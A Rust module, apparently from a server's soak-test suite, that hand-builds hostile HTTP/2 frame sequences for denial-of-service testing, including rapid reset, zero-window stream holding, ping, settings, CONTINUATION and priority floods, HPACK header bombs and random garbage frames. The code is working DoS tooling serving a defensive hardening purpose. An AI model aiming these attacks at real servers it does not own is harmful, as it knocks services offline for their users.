//! Hostile HTTP/2, in frames written by hand ([RFC 9113](https://www.rfc-editor.org/rfc/rfc9113)).

use std::io::{self, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use medusa_testkit::http2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, frame, request,
};

use super::{Attack, AttackKind, after, drain};
use crate::soak::rng::{Rng, bytes};

pub(super) const KINDS: &[AttackKind] = &[
    AttackKind::new("h2 windows of 0", |attack| attack.hold(CONNECTIONS, holder)),
    AttackKind::new("h2 windows of a trickle", |attack| {
        let one = numbers(STREAMS).flat_map(|number| frame(WINDOW_UPDATE, 0, number, &1_u32.to_be_bytes()));
        attack.trickle(CONNECTIONS, holder, &one.collect::<Vec<u8>>(), Duration::from_millis(200))
    }),
    AttackKind::new("h2 rapid reset", |attack| {
        let mut stream = open(attack, 65_535)?;
        for number in numbers(100_000) {
            if attack.over() {
                break;
            }
            let cancel = frame(RST_STREAM, 0, number, &8_u32.to_be_bytes());
            stream.write_all(&[get(number, "/ok"), cancel].concat())?;
        }
        drain(&mut stream);
        Ok(())
    }),
    AttackKind::new("h2 pings", |attack| flood(attack, &[], &frame(PING, 0, 0, b"12345678"))),
    AttackKind::new("h2 ping ACKs", |attack| flood(attack, &[], &frame(PING, ACK, 0, b"12345678"))),
    AttackKind::new("h2 settings", |attack| flood(attack, &[], &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]))),
    AttackKind::new("h2 continuations", |attack| {
        let begun = frame(HEADERS, END_STREAM, 1, &request("GET", "/"));
        flood(attack, &begun, &frame(CONTINUATION, 0, 1, &field("x-more", &"a".repeat(100))))
    }),
    // One entry of the table, named thousands of times in a byte each; a cookie in as many crumbs; a stream of either.
    AttackKind::new("h2 header bombs", |attack| {
        let indexed = [&[0x40][..], &field("cookie", &"c".repeat(120))[1..]].concat();
        let block = [request("GET", "/ok"), indexed, vec![0xbe; 16_000]].concat();
        let (first, rest) = block.split_at(8_000);
        let bombs = numbers(STREAMS).flat_map(|number| {
            [frame(HEADERS, END_STREAM, number, first), frame(CONTINUATION, END_HEADERS, number, rest)]
        });
        let bombs: Vec<u8> = bombs.flatten().collect();
        attack.say(|attack| open(attack, 0), |_| bombs.clone())
    }),
    AttackKind::new("h2 empty DATA", |attack| {
        let begun = frame(HEADERS, END_HEADERS, 1, &request("POST", "/takes"));
        flood(attack, &begun, &frame(DATA, 0, 1, &[]))
    }),
    AttackKind::new("h2 priorities", |attack| flood(attack, &[], &frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16]))),
    AttackKind::new("h2 garbage", |attack| {
        let garbage = |rng: &mut Rng| {
            let length = rng.usize(..200);
            let payload = bytes(rng, length);
            frame(rng.usize(..12) as u8, rng.usize(..256) as u8, rng.usize(..8) as u32, &payload)
        };
        attack.say(|attack| open(attack, 65_535), |rng| (0..50).flat_map(|_| garbage(rng)).collect())
    }),
    // Bodies on every stream that come to the window's end and stay there.
    AttackKind::new("h2 bodies held", |attack| {
        let bodies = numbers(STREAMS).flat_map(|number| {
            let head = frame(HEADERS, END_HEADERS, number, &request("POST", "/takes"));
            [head, frame(DATA, 0, number, &[7; 500])].concat()
        });
        let bodies: Vec<u8> = bodies.collect();
        attack.hold(CONNECTIONS, |attack| after(&bodies, open(attack, 65_535)?))
    }),
];

const INITIAL_WINDOW_SIZE: u16 = 4;

/// The number of streams that a connection may have: the server's limit, less one.
const STREAMS: u32 = 127;
/// The number of connections that hold streams.
const CONNECTIONS: usize = 8;

fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &request("GET", path))
}

/// Odd, as a client's streams are.
fn numbers(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// A connection with this initial window.
fn open(attack: &mut Attack<'_>, window: u32) -> io::Result<TcpStream> {
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
    let settings = [frame(SETTINGS, 0, 0, &setting), frame(SETTINGS, ACK, 0, &[])].concat();
    after(&[PREFACE, &settings].concat(), attack.dial()?)
}

/// A connection that asks for a large file on every stream and takes nothing of it.
fn holder(attack: &mut Attack<'_>) -> io::Result<TcpStream> {
    let requests: Vec<u8> = numbers(STREAMS).flat_map(|number| get(number, "/large.bin")).collect();
    after(&requests, open(attack, 0)?)
}

/// After `begun`, the same frames over and over, unread.
fn flood(attack: &mut Attack<'_>, begun: &[u8], frames: &[u8]) -> io::Result<()> {
    attack.flood(|attack| after(begun, open(attack, 65_535)?), &frames.repeat(500))
}
